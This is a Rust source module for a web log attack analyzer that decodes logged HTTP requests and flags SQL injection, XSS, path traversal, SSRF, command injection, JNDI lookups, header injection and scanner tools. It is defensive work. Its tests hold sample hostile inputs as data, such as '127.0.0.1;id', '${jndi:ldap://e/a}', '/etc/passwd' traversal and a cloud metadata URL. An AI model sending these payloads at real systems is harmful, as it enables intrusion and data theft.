//! Web attack analysis: what a web server's log line says a client tried.
//!
//! [`analyze`] takes a [`Request`] as a log records it (method, target, the headers and
//! body the log keeps), splits it into the places a payload can hide ([`request::parts`]:
//! path, parameter names and values, cookies, inspected headers, body fields), undoes the
//! encodings attackers use ([`normalize`]), and runs one checker per [`AttackClass`]
//! ([`detect`]). It returns at most one [`Finding`] per class: the first place that
//! class was seen, the decoded evidence, and the reason, so an analyst reads *why*.
//!
//! Pure logic: no IO, no state between requests, bounded work per request (parameters,
//! body length and decoding rounds are capped). Any input is accepted; none panics.

pub mod class;
pub mod detect;
pub mod normalize;
pub mod request;

pub use class::AttackClass;
pub use request::{Location, Part, Request};

use std::collections::HashMap;

use detect::{code, commands, files, injection, protocol, ssrf};

/// One attack class found in a request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub class: AttackClass,
    pub location: Location,
    /// The decoded value the class was found in, shortened to [`MAX_EVIDENCE`] characters.
    pub evidence: String,
    /// Why the value is an attack of this class.
    pub reason: String,
}

/// Longest evidence kept, in characters.
pub const MAX_EVIDENCE: usize = 200;

/// The attack classes `request` carries, at most one finding per class, in
/// [`AttackClass`] order. For many requests, an [`Analyzer`] is faster.
pub fn analyze(request: &Request<'_>) -> Vec<Finding> {
    Analyzer::with_memory(0).analyze(request)
}

/// Analyses requests one after another, remembering what it found in the values that
/// repeat across a log — paths, user agents, referers, parameter values under their
/// name — so each distinct one is analysed once. Only values whose verdict depends on
/// nothing else are remembered. The memory is bounded: when full, it starts over.
#[derive(Debug, Default)]
pub struct Analyzer {
    /// Per location (the path, each header): value → what was found in it.
    memo: HashMap<Location, HashMap<String, Vec<(AttackClass, String)>>>,
    remembered: usize,
    capacity: usize,
}

/// How many distinct values an [`Analyzer`] remembers by default.
pub const DEFAULT_MEMORY: usize = 8192;

/// Values longer than this are not remembered: they seldom repeat.
const MAX_REMEMBERED_LEN: usize = 512;

impl Analyzer {
    pub fn new() -> Analyzer {
        Analyzer::with_memory(DEFAULT_MEMORY)
    }

    /// An analyzer that remembers up to `capacity` values (0: none).
    pub fn with_memory(capacity: usize) -> Analyzer {
        Analyzer {
            memo: HashMap::new(),
            remembered: 0,
            capacity,
        }
    }

    /// The attack classes `request` carries, as [`analyze`] finds them.
    pub fn analyze(&mut self, request: &Request<'_>) -> Vec<Finding> {
        let parts = request::parts(request);
        let context = Context {
            host: request.header("host"),
            referer: request.header("referer"),
        };
        let mut found: Vec<Finding> = Vec::new();
        let mut seen = [false; AttackClass::ALL.len()];
        for part in &parts {
            if part.value.is_empty() {
                continue;
            }
            let remembered = self.capacity > 0
                && matches!(
                    part.location,
                    Location::Path | Location::Header(_) | Location::Query(_) | Location::Cookie(_)
                )
                && part.value.len() <= MAX_REMEMBERED_LEN;
            if remembered {
                let known = self
                    .memo
                    .get(&part.location)
                    .and_then(|values| values.get(part.value.as_ref()));
                let hits = match known {
                    Some(hits) => hits.clone(),
                    None => {
                        let hits = check_part(part, &context, &[false; AttackClass::ALL.len()]);
                        if self.remembered >= self.capacity {
                            self.memo.clear();
                            self.remembered = 0;
                        }
                        self.memo
                            .entry(part.location.clone())
                            .or_default()
                            .insert(part.value.to_string(), hits.clone());
                        self.remembered += 1;
                        hits
                    }
                };
                for (class, reason) in hits {
                    record(&mut found, &mut seen, class, part, reason);
                }
            } else {
                for (class, reason) in check_part(part, &context, &seen) {
                    record(&mut found, &mut seen, class, part, reason);
                }
            }
        }
        found.sort_by_key(|f| f.class);
        found
    }
}

/// What a request's other parts tell the checks of one part.
struct Context<'a> {
    host: Option<&'a str>,
    referer: Option<&'a str>,
}

fn record(
    found: &mut Vec<Finding>,
    seen: &mut [bool; AttackClass::ALL.len()],
    class: AttackClass,
    part: &Part<'_>,
    reason: String,
) {
    if !seen[class as usize] {
        seen[class as usize] = true;
        found.push(Finding {
            class,
            location: part.location.clone(),
            evidence: evidence(&part.value),
            reason,
        });
    }
}

/// The classes found in `part`, skipping those already `seen`.
fn check_part(
    part: &Part<'_>,
    context: &Context<'_>,
    seen: &[bool; AttackClass::ALL.len()],
) -> Vec<(AttackClass, String)> {
    let value = part.value.as_ref();
    let (host, referer) = (context.host, context.referer);
    let mut hits = Vec::new();
    for &class in checks_for(&part.location) {
        if seen[class as usize] {
            continue;
        }
        let reason = match class {
            AttackClass::SqlInjection => {
                injection::sql_injection(value, matches!(part.location, Location::Header(_)))
            }
            // A path can name a page about scripts (`/docs/document.cookie`); it
            // carries markup only with brackets or quotes.
            AttackClass::CrossSiteScripting
                if matches!(part.location, Location::Path)
                    && !value.contains(['<', '>', '"', '\'']) =>
            {
                None
            }
            AttackClass::CrossSiteScripting => injection::cross_site_scripting(value),
            AttackClass::PathTraversal => files::path_traversal(value),
            AttackClass::SensitiveFileAccess => match &part.location {
                Location::Path => files::sensitive_request_path(value),
                _ => files::sensitive_file(value),
            },
            AttackClass::RemoteFileInclusion => match &part.location {
                Location::Query(name) | Location::Body(name) => {
                    files::remote_file_inclusion(name, value)
                }
                _ => None,
            },
            AttackClass::ServerSideRequestForgery => match &part.location {
                Location::Query(name) | Location::Body(name) => {
                    ssrf::server_side_request_forgery(name, value)
                }
                _ => None,
            },
            AttackClass::CommandInjection => match &part.location {
                Location::Header(_) => commands::command_injection_in_header(value),
                _ => commands::command_injection(value),
            },
            AttackClass::PhpInjection => code::php_injection(value),
            AttackClass::JavaInjection => code::java_injection(value),
            AttackClass::CodeInjection => code::code_injection(value),
            AttackClass::HeaderInjection => protocol::header_injection(value),
            AttackClass::SessionFixation => match &part.location {
                Location::QueryName => protocol::planted_session(value, referer, host),
                _ => protocol::cookie_setting(value),
            },
            AttackClass::ScannerTool => protocol::scanner(value),
        };
        if let Some(reason) = reason {
            hits.push((class, reason));
        }
    }
    hits
}

/// Which classes are looked for where. Parameters get every injection class; the path
/// what a path can carry; headers what servers and frameworks evaluate in them.
fn checks_for(location: &Location) -> &'static [AttackClass] {
    use AttackClass::*;
    match location {
        Location::Path => &[
            SqlInjection,
            PathTraversal,
            SensitiveFileAccess,
            CommandInjection,
            PhpInjection,
            JavaInjection,
            CodeInjection,
            CrossSiteScripting,
            HeaderInjection,
        ],
        Location::QueryName => &[
            SqlInjection,
            CrossSiteScripting,
            PhpInjection,
            JavaInjection,
            CodeInjection,
            SessionFixation,
        ],
        Location::XmlBody => &[
            SensitiveFileAccess,
            CommandInjection,
            PhpInjection,
            JavaInjection,
            CodeInjection,
        ],
        Location::BodyName => &[
            SqlInjection,
            CrossSiteScripting,
            PhpInjection,
            JavaInjection,
        ],
        Location::Query(_) | Location::Body(_) | Location::RawBody | Location::Cookie(_) => &[
            SqlInjection,
            CrossSiteScripting,
            PathTraversal,
            SensitiveFileAccess,
            RemoteFileInclusion,
            ServerSideRequestForgery,
            CommandInjection,
            PhpInjection,
            JavaInjection,
            CodeInjection,
            HeaderInjection,
            SessionFixation,
        ],
        Location::Header(name) if name == "user-agent" => &[
            ScannerTool,
            JavaInjection,
            CommandInjection,
            SqlInjection,
            CrossSiteScripting,
            PhpInjection,
        ],
        Location::Header(name) if name == "referer" => &[
            SqlInjection,
            CrossSiteScripting,
            JavaInjection,
            CommandInjection,
        ],
        Location::Header(_) => &[JavaInjection, CommandInjection, SqlInjection],
    }
}

/// `value` shortened for a report, control characters shown as escapes.
fn evidence(value: &str) -> String {
    let mut out = String::new();
    for (n, c) in value.chars().enumerate() {
        if n == MAX_EVIDENCE {
            out.push('…');
            break;
        }
        if c.is_control() {
            out.extend(c.escape_default());
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn classes(target: &str) -> Vec<&'static str> {
        let r = Request {
            target: Some(target),
            ..Request::default()
        };
        analyze(&r).iter().map(|f| f.class.slug()).collect()
    }

    #[test]
    fn each_class_from_a_query_string() {
        assert_eq!(classes("/item?id=1%27%20OR%20%271%27=%271"), ["sqli"]);
        assert_eq!(classes("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), ["xss"]);
        assert_eq!(
            classes("/dl?f=..%2f..%2f..%2fetc%2fpasswd"),
            ["path-traversal", "sensitive-file"]
        );
        assert_eq!(classes("/p?page=http://203.0.113.9/x.txt?"), ["rfi"]);
        assert_eq!(classes("/p?u=http://169.254.169.254/latest/"), ["ssrf"]);
        assert_eq!(classes("/ping?host=127.0.0.1;id"), ["command-injection"]);
        assert_eq!(
            classes("/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D"),
            ["java-injection"]
        );
        assert_eq!(classes("/?x=php://input"), ["php-injection"]);
        assert_eq!(classes("/?x=%7B%7B7*7%7D%7D"), ["code-injection"]);
        assert_eq!(
            classes("/r?u=x%0d%0aLocation:%20http://e/"),
            ["header-injection"]
        );
        // An injected Set-Cookie header is how a session id gets planted.
        assert_eq!(
            classes("/r?u=x%0d%0aSet-Cookie:%20a=b"),
            ["header-injection", "session-fixation"]
        );
    }

    #[test]
    fn ordinary_requests_carry_nothing() {
        for t in [
            "/",
            "/index.html",
            "/search?q=red+shoes&page=2",
            "/api/v1/users/42?fields=name,email",
            "/blog/2024/01/what's-new?utm_source=newsletter",
            "/static/app.min.js?v=1.2.3",
            "/login?next=%2Faccount%2Fsettings",
            "/q?text=Tom+%26+Jerry%3B+cats+and+mice",
        ] {
            assert!(classes(t).is_empty(), "{t}: {:?}", classes(t));
        }
    }

    #[test]
    fn headers_and_bodies_are_inspected() {
        let r = Request {
            method: Some("POST"),
            target: Some("/login"),
            headers: vec![
                ("User-Agent", "sqlmap/1.7"),
                ("X-Api-Version", "${jndi:ldap://e/a}"),
                ("Cookie", "s=1'%20or%201=1--"),
            ],
            body: Some("user=admin&pass=%3Csvg%2Fonload%3Dalert(1)%3E"),
        };
        let found = analyze(&r);
        let got: Vec<_> = found
            .iter()
            .map(|f| (f.class.slug(), f.location.to_string()))
            .collect();
        assert_eq!(
            got,
            [
                ("sqli", "cookie `s`".to_string()),
                ("xss", "body parameter `pass`".to_string()),
                ("java-injection", "header `x-api-version`".to_string()),
                ("scanner", "header `user-agent`".to_string()),
            ]
        );
        assert!(found[0].reason.contains("libinjection") || !found[0].reason.is_empty());
    }

    #[test]
    fn one_finding_per_class_with_escaped_evidence() {
        let r = Request {
            target: Some("/?a=1%27%20or%201=1--&b=2%27%20or%202=2--%0a"),
            ..Request::default()
        };
        let found = analyze(&r);
        assert_eq!(found.len(), 1);
        assert_eq!(found[0].location, Location::Query("a".into()));
        let long = format!("/?a={}", "%3Cscript%3E".repeat(100));
        let r = Request {
            target: Some(&long),
            ..Request::default()
        };
        let f = &analyze(&r)[0];
        assert_eq!(f.evidence.chars().count(), MAX_EVIDENCE + 1);
    }
}

#[cfg(test)]
mod memory {
    use super::*;

    #[test]
    fn remembered_values_give_the_same_findings_and_memory_is_bounded() {
        let mut analyzer = Analyzer::with_memory(2);
        let agents = ["sqlmap/1.7", "Mozilla/5.0", "${jndi:ldap://e/a}", "Nikto"];
        for round in 0..3 {
            for agent in agents {
                let r = Request {
                    target: Some("/.git/config?q=1"),
                    headers: vec![("User-Agent", agent)],
                    ..Request::default()
                };
                assert_eq!(analyzer.analyze(&r), analyze(&r), "round {round}, {agent}");
                assert!(analyzer.remembered <= 2);
                let stored: usize = analyzer.memo.values().map(HashMap::len).sum();
                assert_eq!(stored, analyzer.remembered);
            }
        }
    }
}

#[cfg(test)]
mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(512))]
        #[test]
        fn any_request_is_analyzed_without_panicking(
            target in ".{0,300}",
            agent in ".{0,100}",
            body in proptest::option::of(".{0,300}"),
        ) {
            let r = Request {
                method: Some("POST"),
                target: Some(&target),
                headers: vec![("User-Agent", &agent), ("Cookie", &agent)],
                body: body.as_deref(),
            };
            let found = analyze(&r);
            let mut classes: Vec<_> = found.iter().map(|f| f.class).collect();
            classes.dedup();
            prop_assert_eq!(classes.len(), found.len());
        }

        #[test]
        fn byte_soup_in_percent_escapes_is_safe(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
            let target: String = bytes.iter().map(|b| format!("%{b:02x}")).collect();
            let target = format!("/?x={target}");
            let _ = analyze(&Request { target: Some(&target), ..Request::default() });
        }
    }
}
